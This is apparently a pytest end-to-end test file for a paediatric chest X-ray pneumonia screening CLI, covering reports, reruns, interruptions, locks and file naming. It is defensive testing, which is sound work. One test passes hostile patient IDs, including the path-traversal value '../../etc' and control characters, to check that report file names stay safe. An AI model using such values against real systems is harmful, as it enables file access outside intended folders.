"""End to end: `cxrscreen batch` on the bundled samples plus generated bad files, with the bundled model."""

from __future__ import annotations

import csv
import json
import os
import shutil
import signal
import warnings
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from conftest import latin1_named, pdf_text
from cxrscreen.cli import main
from cxrscreen.errors import OutputError
from cxrscreen.explain import GradCam, _gradient_cam, find_gradcam_layer, members, overlay
from cxrscreen.normalise import load_model_input
from cxrscreen.pipeline import OUTPUT_LOCK, STATE_FILE, BatchOptions, run_batch
from cxrscreen.report import report_filename, safe_name
from cxrscreen.testing import make_dicom, save, uid_from

ROOT = Path(__file__).resolve().parents[1]
SAMPLES = ROOT / "samples"


@pytest.fixture
def inbox(tmp_path):
    """The samples plus a corrupt file, copied so nothing is written next to the real inputs."""
    box = tmp_path / "inbox"
    shutil.copytree(SAMPLES, box, ignore=shutil.ignore_patterns("*.py", "*.md"))
    return box


def test_batch_cli_on_samples_with_a_corrupt_file(inbox, tmp_path):
    (inbox / "corrupt.dcm").write_bytes(b"DICM" * 10)
    out = tmp_path / "reports"
    before = sorted(p.relative_to(inbox) for p in inbox.rglob("*"))
    handlers = signal.getsignal(signal.SIGINT), signal.getsignal(signal.SIGTERM)
    result = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(out), "--json"])
    assert result.exit_code == 1, result.output
    # its SIGTERM and Ctrl-C handlers (stop after the reports under way) are the caller's again after it
    assert (signal.getsignal(signal.SIGINT), signal.getsignal(signal.SIGTERM)) == handlers
    summary = json.loads(result.stdout)
    all_studies = [r for r in summary["rows"] if r["kind"] == "study"]
    studies = [r for r in all_studies if r["report"]]
    files = {Path(r["path"]).name: r for r in summary["rows"] if r["kind"] == "file"}
    assert len(studies) == 6 and summary["failed_files"] == 1
    # the backend and device the scores came from
    assert summary["compute"] == "tensorflow on CPU" or summary["compute"].startswith("tensorflow on GPU (")
    # the hand-only study has a study row of its own, ranked last, with nothing screened
    assert len(all_studies) == 7 == summary["studies"] and summary["unscreened_studies"] == 1
    hand = all_studies[-1]
    assert hand["status"] == "skipped" and hand["flag"] == "no" and hand["score"] == "" and not hand["report"]
    assert "IM0001.dcm: skipped, body part" in hand["reason"] and hand["files"][0].endswith("IM0001.dcm")
    # ... and can be found by its patient and accession, read from the skipped file's header
    assert (hand["patient_id"], hand["accession"], hand["study_date"]) == ("CXR-0007", "ACCBD0EE581", "20261101")
    assert files["corrupt.dcm"]["status"] == "failed" and files["corrupt.dcm"]["reason"]
    assert files["IM0002.dcm"]["status"] == "skipped" and "not frontal" in files["IM0002.dcm"]["reason"]
    assert files["IM0002.dcm"]["patient_id"] == "CXR-0003" and files["corrupt.dcm"]["patient_id"] == ""
    assert files["SR0001.dcm"]["status"] == "skipped" and "no pixel data" in files["SR0001.dcm"]["reason"]
    # ranked: flagged first, then by score
    flags = [r["flag"] == "yes" for r in studies]
    assert flags == sorted(flags, reverse=True)
    for group in (True, False):
        scores = [r["score"] for r in studies if (r["flag"] == "yes") == group]
        assert scores == sorted(scores, reverse=True)
    for row in studies:
        assert (out / row["report"]).is_file()
    assert (out / "summary.csv").is_file() and (out / "worklist.pdf").is_file()
    assert sorted(p.relative_to(inbox) for p in inbox.rglob("*")) == before   # nothing written next to inputs

    # the report PDF carries the study's identifiers and the disclaimer
    row = next(r for r in studies if r["patient_id"] == "CXR-0003")
    text = pdf_text(out / row["report"])
    for expected in ("CXR-0003", "SAMPLE, CLEO", row["accession"], "Decision support only", "not frontal", "sha256",
                     # dates, time and age as a reader writes them, the age worked out from the birth date
                     "Birth date 2023-01-20", "Sex / age F / 3 years (from the birth date)",
                     "Study date 2026-11-01 10:15:00"):
        assert expected in text
    assert ("Likely pneumonia - review first" in text) == (row["flag"] == "yes")
    assert ("No pneumonia flagged" in text) == (row["flag"] == "no")
    assert "Model trained on: Pediatric chest radiographs" in text and "Caution" not in text
    # the operating point quoted is the held-out test split's, not the validation split's that chose the threshold
    flat = " ".join(text.split())
    assert "operating point: sensitivity 0.987, specificity 0.761 on the model's held-out test split (390 pneumonia " \
           "and 234 normal images; the threshold was chosen on its validation split for 0.95 sensitivity, where it " \
           "gave 0.950 and specificity 0.984)" in flat, flat
    # its pictures are binary JPEG streams, not ASCII85 text (a fifth larger, and slow to encode)
    raw = (out / row["report"]).read_bytes()
    assert b"/DCTDecode" in raw and b"/ASCII85Decode" not in raw

    # a patient outside the card's ages (1-5 years) is scored, with a caution in the row, report and worklist
    assert summary["outside_population"] == 1
    older = next(r for r in studies if r["patient_id"] == "CXR-0004")
    assert older["warning"].startswith("patient aged 6 years, outside the model's training population (1-5")
    assert [r["patient_id"] for r in all_studies if r["warning"]] == ["CXR-0004"]
    assert "Caution: patient aged 6 years" in pdf_text(out / older["report"])
    # ... and stored on its side: scored upright, as its report says
    assert "Stored on its side (Patient Orientation F\\R): turned upright" in pdf_text(out / older["report"])

    # the worklist names every file that was not screened, the failure first, with the reason
    worklist = pdf_text(out / "worklist.pdf")
    assert f"Not screened: {len(files)} files" in worklist
    assert "7 studies, " in worklist and worklist.count(hand["study_uid"][-24:]) == 2
    assert "2026-11-01" in worklist
    # each report's name in the worklist opens it: a link to the file beside the worklist (PDF GoToR)
    from pypdf import PdfReader

    links = [a.get_object()["/A"] for page in PdfReader(out / "worklist.pdf").pages for a in page.get("/Annots", [])]
    assert [(a["/S"], a["/F"]) for a in links] == [("/GoToR", r["report"]) for r in studies]
    assert "patient aged 6 years" in worklist
    # the patient's name beside the ID (two identifiers), in the worklist as the reports show it, in the
    # summary as read; a study with nothing screenable has it from its files' headers too
    from cxrscreen.typeset import person_name

    named = {r["patient_id"]: r["patient_name"] for r in all_studies if r["patient_id"]}
    assert len(named) == 6 and named["CXR-0007"] == "SAMPLE^FARID" and all(v.startswith("SAMPLE^") for v in named.values())
    assert all(person_name(v) in worklist for v in named.values()) and "SAMPLE, FARID" in worklist
    assert worklist.index("corrupt.dcm") < worklist.index("IM0002.dcm")
    for name in ("SR0001.dcm", "not frontal", "no pixel data"):
        assert name in worklist

    # without the corrupt file the exit code is 0, and unchanged studies are not redone
    (inbox / "corrupt.dcm").unlink()
    again = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(out), "--json"])
    assert again.exit_code == 0, again.output
    assert json.loads(again.stdout)["reused_studies"] == 6


def test_usage_errors_exit_2(tmp_path):
    runner = CliRunner()
    assert runner.invoke(main, ["batch", str(tmp_path / "missing"), "--out", str(tmp_path / "o")]).exit_code == 2
    assert runner.invoke(main, ["batch", str(tmp_path), "--out", str(tmp_path / "o"),
                                "--threshold", "7"]).exit_code == 2
    assert runner.invoke(main, ["batch", str(tmp_path), "--out", str(tmp_path / "o"),
                                "--gradcam", "some"]).exit_code == 2
    same = runner.invoke(main, ["batch", str(tmp_path), "--out", str(tmp_path / ".")])
    assert same.exit_code == 2 and "is the folder to screen" in same.output


def test_rerun_redoes_a_study_that_gained_an_image_and_force_redoes_all(inbox, tmp_path, model):
    out = tmp_path / "out"
    options = BatchOptions(out=out, gradcam="none")
    first = run_batch([inbox], options, model=model)
    assert first.reused == 0 and first.studies == 7 and first.unscreened_studies == 1
    # study 1 gains an AP image
    src = inbox / "study1_cr_mono1_j2k" / "IM0001.dcm"
    import pydicom

    ds = pydicom.dcmread(src)
    ds.SOPInstanceUID = ds.file_meta.MediaStorageSOPInstanceUID = uid_from(ds.SOPInstanceUID + "/2")
    ds.ViewPosition = "AP"
    ds.save_as(inbox / "study1_cr_mono1_j2k" / "IM0002.dcm")
    second = run_batch([inbox], options, model=model)
    assert second.reused == 5
    redone = next(r for r in second.rows if r.get("patient_id") == "CXR-0001")
    assert len([f for f in redone["files"] if f.endswith(".dcm")]) == 2 and not redone.get("reused")
    third = run_batch([inbox], BatchOptions(out=out, gradcam="none", force=True), model=model)
    assert third.reused == 0


def test_a_rerun_with_nothing_to_score_starts_no_backend_and_one_with_something_does(inbox, tmp_path, model):
    """Starting the Keras backend and loading the model took 5 of the 6.8 s a re-run of the samples took when
    it found every study reported already (0.6 s now). The card and the file's digest are read first, as
    before; the Keras model only once there is a study to score."""
    from cxrscreen.infer import load_model

    options = BatchOptions(out=tmp_path / "out", gradcam="none")
    assert run_batch([inbox], options, model=model).reused == 0
    lazy = load_model(model.path, keras=False)
    assert lazy.keras_model is None and lazy.sha256 == model.sha256 and lazy.appearance is not None
    again = run_batch([inbox], options, model=lazy)
    assert again.reused == 6 and again.exit_code == 0
    assert lazy.keras_model is None and again.meta["compute"] == "not started: no study scored"
    image = inbox / "study5_cr_jpeg_baseline" / "IM0001.dcm"
    os.utime(image, (image.stat().st_atime, image.stat().st_mtime + 10))       # as a file written again
    third = run_batch([inbox], options, model=lazy)
    assert third.reused == 5 and lazy.keras_model is not None and third.meta["compute"] == model.compute
    redone = next(r for r in third.rows if r.get("patient_id") == "CXR-0005")
    # scored alone now, in a batch of six before: the CPU kernels round differently by batch (as in the Ctrl-C test)
    assert not redone.get("reused") and float(redone["score"]) == pytest.approx(
        float(next(r for r in again.rows if r.get("patient_id") == "CXR-0005")["score"]), abs=1e-5)


def test_a_full_disk_stops_the_batch_with_its_cause_and_a_rerun_goes_on_from_what_was_reported(
        inbox, tmp_path, model, monkeypatch):
    """The output filling up mid-run was a traceback, and the run's state was lost with it: the re-run
    redid every study. Now: one line naming the file and the cause, exit 1, the reported studies kept."""
    import errno

    from cxrscreen import pipeline

    out = tmp_path / "out"
    real, written = pipeline.write_study_report, []

    def full_after_two(path, *args, **kwargs):
        if len(written) == 2:
            raise OSError(errno.ENOSPC, "No space left on device")
        real(path, *args, **kwargs)
        written.append(path.name)

    monkeypatch.setattr(pipeline, "write_study_report", full_after_two)
    monkeypatch.setattr(pipeline, "load_model", lambda path=None, **_: model)
    result = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(out), "--gradcam", "none", "--quiet"])
    assert result.exit_code == 1 and "Traceback" not in result.output
    message = result.stderr.strip()
    assert message.startswith(f"cxrscreen: error: {out}/") and "[write]" in message, message
    assert "cannot write the report: No space left on device" in message
    assert f"screening stopped, 2 studies reported are kept in {STATE_FILE}" in message
    state = json.loads((out / STATE_FILE).read_text())
    assert sorted(entry["row"]["report"] for entry in state.values()) == sorted(written)
    assert sorted(p.name for p in out.iterdir()) == sorted([*written, STATE_FILE, OUTPUT_LOCK])   # no temporary files

    monkeypatch.setattr(pipeline, "write_study_report", real)
    again = run_batch([inbox], BatchOptions(out=out, gradcam="none"), model=model)
    assert again.reused == 2 and again.studies == 7 and again.exit_code == 0
    assert all((out / r["report"]).is_file() for r in again.rows if r["kind"] == "study" and r["report"])


def test_report_processes_write_the_same_reports_and_their_errors_stop_the_batch(inbox, tmp_path, model):
    """On a machine with CPUs to spare a large run's reports are written by processes (reportlab is pure
    Python: one thread was what a GPU run waited for). They write what a thread writes, and an output
    error in one of them stops the batch as it does in a thread."""
    from cxrscreen.pipeline import PROCESS_REPORTS_FROM, report_processes

    assert [report_processes(n, cpus) for n, cpus in ((PROCESS_REPORTS_FROM - 1, 16), (PROCESS_REPORTS_FROM, 16),
                                                      (1000, 2), (1000, 8), (1000, 64))] == [0, 4, 0, 2, 4]
    runs = {}
    for processes in (0, 2):
        out = tmp_path / f"out{processes}"
        summary = run_batch([inbox], BatchOptions(out=out, dicom=True, report_processes=processes), model=model)
        assert summary.exit_code == 0 and summary.studies == 7
        runs[processes] = (out, [{k: v for k, v in r.items() if k != "files"} for r in summary.rows])
    (thread_out, thread_rows), (process_out, process_rows) = runs[0], runs[2]
    assert process_rows == thread_rows
    reports = [r["report"] for r in thread_rows if r["kind"] == "study" and r["report"]]
    assert len(reports) == 6
    for name in reports:
        assert pdf_text(process_out / name) == pdf_text(thread_out / name)
        assert (process_out / name).stat().st_size == pytest.approx((thread_out / name).stat().st_size, rel=0.01)
    assert sorted(p.name for p in process_out.glob("*.dcm")) == sorted(p.name for p in thread_out.glob("*.dcm"))

    out = tmp_path / "blocked"
    (out / reports[0]).mkdir(parents=True)       # a folder where a report goes: its rename fails (EISDIR)
    with pytest.raises(OutputError) as raised:
        run_batch([inbox], BatchOptions(out=out, gradcam="none", report_processes=2), model=model)
    assert raised.value.path == out / reports[0] and raised.value.step == "write"
    assert "cannot write the report" in raised.value.cause and "screening stopped" in raised.value.cause


def test_reports_of_a_report_process_that_dies_are_written_all_the_same(inbox, tmp_path, model, monkeypatch):
    """A report process killed (out of memory, by hand) breaks the pool: the reports it had are written by
    the screening process, the rest by a thread; no study fails for it."""
    from conftest import die_in_a_report_process
    from cxrscreen import pipeline

    monkeypatch.setattr(pipeline, "make_report", die_in_a_report_process)
    out = tmp_path / "out"
    summary = run_batch([inbox], BatchOptions(out=out, gradcam="none", report_processes=2), model=model)
    assert summary.exit_code == 0 and summary.failed_reports == 0
    reports = [r["report"] for r in summary.rows if r["kind"] == "study" and r["report"]]
    assert len(reports) == 6 and all((out / name).is_file() for name in reports)


def _scores(summary) -> dict:
    return {r["study_uid"]: r["score"] or -1.0 for r in summary.rows if r["kind"] == "study"}


def test_a_stopped_batch_lists_the_rest_as_pending_and_the_same_command_goes_on(inbox, tmp_path, model,
                                                                               monkeypatch):
    """Ctrl-C or SIGTERM (cron's timeout, a reboot) was a traceback that left no summary and no state: the
    next run redid every study. Now the reports under way are finished, the studies not screened are listed
    as pending in the summary and the worklist, the run exits 1, and the same command screens the rest."""
    import threading

    from cxrscreen import pipeline

    clean = run_batch([inbox], BatchOptions(out=tmp_path / "clean", gradcam="none"), model=model)
    out, stop, real, written = tmp_path / "out", threading.Event(), pipeline.write_study_report, []

    def stop_after_two(path, *args, **kwargs):
        real(path, *args, **kwargs)
        written.append(path.name)
        if len(written) == 2:
            stop.set()

    monkeypatch.setattr(pipeline, "write_study_report", stop_after_two)
    options = BatchOptions(out=out, gradcam="none", batch_size=1)
    stopped = run_batch([inbox], options, model=model, stop=stop)
    assert stopped.interrupted and stopped.exit_code == 1 and stopped.studies == 7
    studies = [r for r in stopped.rows if r["kind"] == "study"]
    scored = [r for r in studies if r["status"] == "scored"]
    pending = [r for r in studies if r["status"] == "pending"]
    # the reports under way were finished: every scored study has its report, and the rest wait
    assert 2 <= len(scored) and len(pending) >= 2 and len(scored) + len(pending) == 6 == stopped.pending + len(scored)
    assert sorted(r["report"] for r in scored) == sorted(written)
    assert all((out / r["report"]).is_file() for r in scored)
    # ranked: the scored, then the pending (to be screened), then the study with nothing screenable
    assert [r["status"] for r in studies] == ["scored"] * len(scored) + ["pending"] * len(pending) + ["skipped"]
    identity = {r["study_uid"]: (r["patient_id"], r["accession"], r["study_date"], r["files"]) for r in clean.rows}
    for row in pending:       # found by patient, accession and date, from the headers
        assert not row["report"] and row["score"] == "" and row["flag"] == "no"
        assert (row["patient_id"], row["accession"], row["study_date"], row["files"]) == identity[row["study_uid"]]
        assert row["reason"].startswith("not screened: the run was stopped")
    saved = json.loads((out / "summary.json").read_text())
    assert saved["interrupted"] is True and saved["pending_studies"] == len(pending)
    assert "This run was stopped before it finished" in pdf_text(out / "worklist.pdf")
    assert sorted(json.loads((out / STATE_FILE).read_text())) == sorted(r["study_uid"] for r in scored)

    monkeypatch.setattr(pipeline, "write_study_report", real)
    again = run_batch([inbox], options, model=model)
    assert again.reused == len(scored) and again.pending == 0 and not again.interrupted and again.exit_code == 0
    assert _scores(again) == pytest.approx(_scores(clean), abs=1e-5)
    assert [r["flag"] for r in again.rows] == [r["flag"] for r in clean.rows]


def test_a_second_ctrl_c_stops_at_once_and_keeps_every_study_reported(inbox, tmp_path, model, monkeypatch):
    """A second Ctrl-C stops a batch at once: it ended in click's bare "Aborted!" (exit 1), and kept only the
    studies of the last saved state (every 30 s: none in a short run), so the same command redid them all. Now
    the state of every study whose report is all there is saved as it stops, the command says how many are kept
    (exit 130), and the same command reuses them. The second Ctrl-C comes (as KeyboardInterrupt, in the
    screening thread) once two reports are written."""
    import time

    from cxrscreen import cli, pipeline

    real, written = pipeline.write_study_report, []

    def counted(path, *args, **kwargs):
        real(path, *args, **kwargs)
        written.append(path.name)

    def second_ctrl_c(self, done, total, failed=0):
        deadline = time.monotonic() + 60
        while len(written) < 2 and time.monotonic() < deadline:
            time.sleep(0.01)
        if len(written) >= 2:
            raise KeyboardInterrupt

    monkeypatch.setattr(pipeline, "write_study_report", counted)
    monkeypatch.setattr(cli._Progress, "__call__", second_ctrl_c)
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(out), "--gradcam", "none", "--batch-size",
                                       "1", "--model", str(model.path)])
    assert result.exit_code == 130, result.output
    state = json.loads((out / STATE_FILE).read_text())
    assert len(state) >= 2 and all((out / entry["row"]["report"]).is_file() for entry in state.values())
    assert result.stderr.strip().endswith(
        f"cxrscreen batch: stopped at once by a second Ctrl-C; no summary or worklist written; {len(state)} studies "
        f"reported are kept in {out / STATE_FILE}: the same command goes on from them"), result.stderr
    assert "Aborted" not in result.output and not (out / "summary.json").exists()
    monkeypatch.setattr(pipeline, "write_study_report", real)
    again = run_batch([inbox], BatchOptions(out=out, gradcam="none", batch_size=1), model=model)
    assert again.reused == len(state) and again.pending == 0 and again.exit_code == 0


def test_a_second_ctrl_c_while_the_worklist_is_written_keeps_every_study_and_says_so(inbox, tmp_path, model,
                                                                                      monkeypatch):
    from cxrscreen import pipeline
    from cxrscreen.errors import StoppedAtOnce

    def stopped(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(pipeline, "write_worklist", stopped)
    with pytest.raises(StoppedAtOnce) as caught:
        run_batch([inbox], BatchOptions(out=tmp_path / "out", gradcam="none"), model=model)
    assert caught.value.summary and caught.value.saved and caught.value.kept == 6      # every scored study
    assert len(json.loads((tmp_path / "out" / STATE_FILE).read_text())) == 6
    monkeypatch.undo()
    again = run_batch([inbox], BatchOptions(out=tmp_path / "out", gradcam="none"), model=model)
    assert again.reused == 6 and again.exit_code == 0 and (tmp_path / "out" / "worklist.pdf").is_file()


def test_a_second_ctrl_c_while_a_report_is_waited_for_keeps_that_study(inbox, tmp_path, model, monkeypatch):
    """The report job waited for was taken off the queue first: a second Ctrl-C while it waited lost that study's
    state, though its report was all there (the next run redid it)."""
    from cxrscreen import pipeline
    from cxrscreen.errors import StoppedAtOnce

    real, interrupted = pipeline.ReportJob.result, []

    def result(self):
        real(self)                  # the report is all there
        interrupted.append(self.make.args[0].name)
        raise KeyboardInterrupt

    monkeypatch.setattr(pipeline.ReportJob, "result", result)
    with pytest.raises(StoppedAtOnce) as caught:
        run_batch([inbox], BatchOptions(out=tmp_path / "out", gradcam="none", batch_size=1), model=model)
    state = json.loads((tmp_path / "out" / STATE_FILE).read_text())
    assert len(interrupted) == 1 and interrupted[0] in {entry["row"]["report"] for entry in state.values()}
    assert caught.value.kept == len(state)


def test_a_stop_while_headers_are_read_writes_nothing(inbox, tmp_path, model):
    import threading

    from cxrscreen.errors import Interrupted

    stop = threading.Event()
    stop.set()
    with pytest.raises(Interrupted, match="before screening began: nothing was written"):
        run_batch([inbox], BatchOptions(out=tmp_path / "out", gradcam="none"), model=model, stop=stop)
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [OUTPUT_LOCK]


def test_a_batch_killed_outright_goes_on_from_its_last_saved_state(inbox, tmp_path, model, monkeypatch):
    """kill -9, a power cut or the OOM killer leave no time to save anything: the state is saved while the
    run goes (every CHECKPOINT_SECONDS), each study in it once its report is all there."""
    from cxrscreen import pipeline

    class Killed(BaseException):
        """Escapes every handler, as a kill does."""

    out, real, written = tmp_path / "out", pipeline.write_study_report, []

    def killed_at_the_fourth(path, *args, **kwargs):
        if len(written) == 3:
            raise Killed
        real(path, *args, **kwargs)
        written.append(path.name)

    monkeypatch.setattr(pipeline, "CHECKPOINT_SECONDS", 0.0)
    monkeypatch.setattr(pipeline, "write_study_report", killed_at_the_fourth)
    options = BatchOptions(out=out, gradcam="none", batch_size=1)
    with pytest.raises(Killed):
        run_batch([inbox], options, model=model)
    state = json.loads((out / STATE_FILE).read_text())
    assert 1 <= len(state) <= 3 and {entry["row"]["report"] for entry in state.values()} <= set(written)
    assert not (out / "summary.json").exists()

    monkeypatch.setattr(pipeline, "write_study_report", real)
    again = run_batch([inbox], options, model=model)
    assert again.reused == len(state) and again.studies == 7 and again.exit_code == 0
    assert all((out / r["report"]).is_file() for r in again.rows if r["kind"] == "study" and r["report"])


STOP_ITSELF = """
import os, signal, sys
from cxrscreen import pipeline
real, written = pipeline.write_study_report, []
def terminate_after_two(path, *args, **kwargs):
    real(path, *args, **kwargs)
    written.append(path)
    if len(written) == 2:
        os.kill(os.getpid(), signal.SIGTERM)
pipeline.write_study_report = terminate_after_two
from cxrscreen.cli import main
sys.argv = ["cxrscreen", "batch", sys.argv[1], "--out", sys.argv[2], "--gradcam", "none", "--batch-size", "1"]
main()
"""


@pytest.mark.slow
def test_sigterm_stops_the_batch_command_after_the_reports_under_way(inbox, tmp_path):
    import subprocess
    import sys

    out = tmp_path / "out"
    done = subprocess.run([sys.executable, "-c", STOP_ITSELF, str(inbox), str(out)], cwd=ROOT, capture_output=True,
                          text=True, timeout=600)
    assert done.returncode == 1, done.stderr
    assert "SIGTERM: finishing the reports under way" in done.stderr and "Traceback" not in done.stderr
    assert "STOPPED before" in done.stderr and "run the same command again" in done.stderr
    summary = json.loads((out / "summary.json").read_text())
    assert summary["interrupted"] is True and summary["pending_studies"] >= 2


def test_report_processes_leave_ctrl_c_and_sigterm_to_the_screening_process():
    """A terminal's Ctrl-C reaches every process of its group, and systemd's stop every process of the
    service: the report processes died of them mid-report. They ignore both; the screening process stops."""
    from conftest import signal_a_report_process
    from cxrscreen.pipeline import ReportWriter

    writer = ReportWriter(1, lost_note="lost")
    try:
        assert writer.submit(signal_a_report_process).result() == "report process"
        assert writer.submit(signal_a_report_process).result() == "report process"    # and it lives on
    finally:
        writer.shutdown()


def test_an_output_folder_is_written_by_one_cxrscreen_at_a_time(tmp_path, model):
    """Two runs into one folder (cron starting a batch while the last still runs, a batch into a watch
    daemon's folder) overwrote each other's reports, summary and state. The second is refused now,
    naming the first; a killed run's temporary files are cleared by the next."""
    import re

    from cxrscreen.errors import UsageError
    from cxrscreen.pipeline import output_lock
    from cxrscreen.watch import Watcher, WatchOptions

    inbox, out = tmp_path / "inbox", tmp_path / "out"
    shutil.copytree(SAMPLES / "study6_plain_jpeg", inbox)
    with output_lock(out, "cxrscreen watch of /srv/inbox"):
        result = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(out)])
        assert result.exit_code == 2, result.output
        assert re.fullmatch(rf"cxrscreen: error: {out}: {out} is being written by cxrscreen watch of /srv/inbox "
                            r"\(pid \d+ on .+, since \d{4}-\d\d-\d\d \d\d:\d\d:\d\d\): wait for it to finish, or "
                            r"give another --out", result.stderr.strip()), result.stderr
        with pytest.raises(UsageError, match="is being written by"):
            Watcher(WatchOptions(tmp_path / "inbox", out, once=True), model=model).run()
    orphan = out / ".x.pdf.k2j4l.tmp"          # what a kill -9 during atomic_write leaves
    orphan.write_bytes(b"%PDF-half")
    summary = run_batch([inbox], BatchOptions(out=out, gradcam="none"), model=model)
    assert summary.studies == 1 and not orphan.exists()
    assert (out / OUTPUT_LOCK).read_text().startswith("cxrscreen batch (pid ")


def test_an_output_folder_inside_the_input_is_not_scanned_as_input(inbox, model):
    """`batch /export --out /export/reports`: the re-run read its own reports as inputs; their .dcm carry
    the study's UID, so every study gained a file and was redone, its new .dcm changing it again."""
    out = inbox / "reports"
    options = BatchOptions(out=out, gradcam="none", dicom=True)
    first = run_batch([inbox], options, model=model)
    old = inbox / "last-week"                 # an earlier run's folder: its state file marks it
    shutil.copytree(out, old)
    (old / ".cxrscreen.lock").unlink()
    for run in (run_batch([inbox], options, model=model), run_batch([inbox], options, model=model)):
        assert run.reused == 6 and run.studies == 7
        assert [r["path"] for r in run.rows if r["kind"] == "file"] == \
            [r["path"] for r in first.rows if r["kind"] == "file"]
        assert not any("reports" in p or "last-week" in p for r in run.rows for p in [r["path"], *r["files"]])


def test_a_report_that_cannot_be_made_fails_its_study_not_the_batch(inbox, tmp_path, model, monkeypatch):
    """An exception while making one report (a reportlab LayoutError was one) ended the whole batch in a
    traceback. Now that study's row keeps its score, says why, and the run exits 1; the re-run retries it."""
    from cxrscreen import pipeline

    out = tmp_path / "out"
    real = pipeline.write_study_report

    def broken_for_one(path, result, **kwargs):
        if result.study.first.patient_id == "CXR-0005":
            raise RuntimeError("no room for the overlay")
        return real(path, result, **kwargs)

    monkeypatch.setattr(pipeline, "write_study_report", broken_for_one)
    monkeypatch.setattr(pipeline, "load_model", lambda path=None, **_: model)
    result = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(out), "--gradcam", "none", "--json"])
    assert result.exit_code == 1, result.output
    summary = json.loads(result.stdout)
    assert summary["failed_reports"] == 1 and summary["failed_files"] == 0
    row = next(r for r in summary["rows"] if r["kind"] == "study" and r["patient_id"] == "CXR-0005")
    assert (row["status"], row["step"], row["report"]) == ("failed", "report", "") and row["score"] > 0.5
    assert row["reason"] == "its report could not be made: RuntimeError: no room for the overlay"
    reported = [r for r in summary["rows"] if r["kind"] == "study" and r["report"]]
    assert len(reported) == 5 and all((out / r["report"]).is_file() for r in reported)
    assert "CXR-0005" in pdf_text(out / "worklist.pdf")
    result = CliRunner().invoke(main, ["batch", str(inbox), "--out", str(out), "--gradcam", "none"])
    assert "FAILED study " in result.stderr and "(patient CXR-0005) [report]: its report could not be" in result.stderr

    monkeypatch.setattr(pipeline, "write_study_report", real)
    again = run_batch([inbox], BatchOptions(out=out, gradcam="none"), model=model)
    assert again.exit_code == 0 and again.reused == 5 and again.failed_reports == 0


def test_outputs_get_the_permissions_the_umask_gives_not_0600(tmp_path):
    """mkstemp made every report 0600: a service account's reports were unreadable to the PACS sender
    and the radiologists' group whatever the site's umask said."""
    import os
    import stat

    from cxrscreen.report import atomic_write

    previous = os.umask(0o027)
    try:
        with atomic_write(tmp_path / "a.pdf") as handle:
            handle.write(b"%PDF")
        os.umask(0o002)
        with atomic_write(tmp_path / "b.csv", "w") as handle:
            handle.write("x")
    finally:
        os.umask(previous)
    assert stat.S_IMODE((tmp_path / "a.pdf").stat().st_mode) == 0o640
    assert stat.S_IMODE((tmp_path / "b.csv").stat().st_mode) == 0o664


def test_file_names_that_are_not_utf8_are_screened_listed_and_reused(tmp_path, model):
    """A share mounted with Latin-1 names gives Python names it keeps as surrogates: they crashed the
    state key and summary.csv. Now: screened, listed as \\xNN in the CSV and the PDFs, exact in the JSON."""
    inbox, out = tmp_path / "inbox", tmp_path / "out"
    inbox.mkdir()
    image = latin1_named(inbox, "Bild_ä.dcm", (SAMPLES / "study5_cr_jpeg_baseline" / "IM0001.dcm").read_bytes())
    notes = latin1_named(inbox, "notes_ÿ.txt", b"not an image")
    summary = run_batch([inbox], BatchOptions(out=out, gradcam="none", dicom=True), model=model)
    (study,) = [r for r in summary.rows if r["kind"] == "study"]
    (skipped,) = [r for r in summary.rows if r["kind"] == "file"]
    assert study["status"] == "scored" and study["files"] == [image] and skipped["path"] == notes
    text = (out / "summary.csv").read_text(encoding="utf-8")         # valid UTF-8 throughout
    assert "Bild_\\xe4.dcm" in text and "notes_\\xff.txt" in text
    listed = json.loads((out / "summary.json").read_text())["rows"]  # the exact names, to open the files by
    assert {r["path"] for r in listed if r["kind"] == "file"} == {notes} and Path(notes).is_file()
    assert "Bild_\\xe4.dcm - view" in pdf_text(out / study["report"])
    assert "notes_\\xff.txt" in pdf_text(out / "worklist.pdf")
    assert run_batch([inbox], BatchOptions(out=out, gradcam="none", dicom=True), model=model).reused == 1


@pytest.mark.parametrize("patient_id", ["../../etc", "CON", "x" * 300, "a/b\\c:d*e?f\"g<h>i|j", "..", "\x00\x07"])
def test_hostile_patient_ids_give_safe_unique_names(tmp_path, model, patient_id):
    pixels = (np.random.default_rng(1).random((128, 128)) * 4000).astype(np.uint16)
    box = tmp_path / "in"
    for i in range(2):
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")      # pydicom warns of the 300-character id (longer than LO allows)
            ds = make_dicom(pixels, seed=f"s{i}", patient_id=patient_id.replace("\x00", ""), bits_stored=12)
        save(ds, box / f"{i}.dcm")
    out = tmp_path / "out"
    summary = run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)
    names = [r["report"] for r in summary.rows if r["kind"] == "study"]
    assert len(names) == 2 and len(set(names)) == 2
    for name in names:
        assert "/" not in name and "\\" not in name and not name.startswith(".") and len(name) < 120
        assert (out / name).resolve().parent == out.resolve()
        assert name.split("_")[0].split(".")[0].upper() not in {"CON", "PRN", "AUX", "NUL"}


def test_overlong_header_values_are_shortened_in_the_pdfs_not_a_crash(tmp_path, model, chest_pixels):
    """A malformed header's 20,000-character name made the report's identity row taller than a page:
    reportlab raised LayoutError and the whole batch stopped. The PDFs shorten such a value, saying so;
    summary.json keeps it whole."""
    box, out = tmp_path / "in", tmp_path / "out"
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")      # pydicom warns of values longer than their VR allows
        ds = make_dicom(chest_pixels, seed="long", patient_id="P" * 5000)
        ds.PatientName, ds.StudyDescription = "A" * 20000, "CHEST PA " * 3000
        save(ds, box / "long.dcm")
    summary = run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)
    study = next(r for r in summary.rows if r["kind"] == "study")
    assert summary.exit_code == 0 and study["patient_id"] == "P" * 5000
    report, worklist = pdf_text(out / study["report"]), pdf_text(out / "worklist.pdf")
    for text in ("[20,000 characters, shortened here]", "[26,999 characters, shortened here]",
                 "[5,000 characters, shortened here]"):
        assert text in report
    assert "[5,000 characters, shortened here]" in worklist


def test_an_image_stored_on_its_side_is_scored_upright_and_its_report_says_so(tmp_path, model, chest_pixels):
    box, out = tmp_path / "in", tmp_path / "out"
